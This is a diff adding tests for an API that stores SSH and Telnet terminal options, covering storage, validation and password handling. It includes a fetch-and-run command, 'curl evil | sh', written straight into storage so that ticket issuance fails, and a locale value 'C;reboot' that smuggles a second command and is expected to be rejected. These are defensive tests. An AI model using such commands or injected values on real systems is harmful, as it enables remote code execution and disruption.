@@ -189,3 +189,48 @@ it.each(['json', 'csv'])('options survive an export and an import in %s', async 
   const withoutIds = (list: Endpoint[]) => list.map(({ id: _id, ...endpoint }) => endpoint);
   expect(withoutIds(after)).toEqual(withoutIds(before));
 });
+
+const TERMINAL_OPTIONS = {
+  encoding: 'latin1',
+  locale: 'de_DE.ISO8859-1',
+  backspace: 'bs',
+  deleteKey: 'del',
+  homeEnd: 'vt220',
+  functionKeys: 'sco',
+} as const;
+
+it('the options of terminals are stored, kept by PUT without them, and authenticated', async () => {
+  const ssh = { ...TERMINAL_OPTIONS, command: 'menu --all' };
+  const created = await call('POST', LIST, { ...BODIES.SSH, ...ssh });
+  expect(created).toMatchObject({ status: 201, body: ssh });
+  const { body } = await call('PUT', `${LIST}/1`, { ...BODIES.SSH, name: 'Renamed' });
+  expect(body).toMatchObject({ name: 'Renamed', ...ssh });
+  const telnet = { ...TERMINAL_OPTIONS, localEcho: true };
+  expect(await call('POST', LIST, { ...BODIES.TELNET, ...telnet })).toMatchObject({
+    status: 201,
+    body: telnet,
+  });
+  await stack.fetch(`${LIST}/2`, { method: 'DELETE' });
+  await writeDirectly({ command: 'curl evil | sh' });
+  const ticket = await call('POST', `${SERVICE}/client/1002/configurations/1/tickets`);
+  expect(ticket.body.error).toBe(ERROR);
+});
+
+it.each([
+  ['command must not contain line breaks or control characters', { command: 'a\nb' }],
+  ['command must not be longer than 1000 characters', { command: 'a'.repeat(1001) }],
+  ['locale must be the name of a locale, such as en_US.UTF-8', { locale: 'C;reboot' }],
+  ['backspace must be one of del, bs', { backspace: '^H' }],
+  ['functionKeys must be one of xterm, linux, vt400, sco', { functionKeys: 'vt52' }],
+])('%s: refused', async (message, option) => {
+  const refused = await call('POST', LIST, { ...BODIES.SSH, ...option });
+  expect(refused).toMatchObject({ status: 422, body: { message } });
+});
+
+it('a stored password is not kept when the command is changed', async () => {
+  await call('POST', LIST, { ...BODIES.SSH, command: 'menu' });
+  const body = { ...BODIES.SSH, password: undefined, command: null };
+  const refused = await call('PUT', `${LIST}/1`, body);
+  expect(refused.status).toBe(422);
+  expect(refused.body.message).toContain('the command is changed');
+});
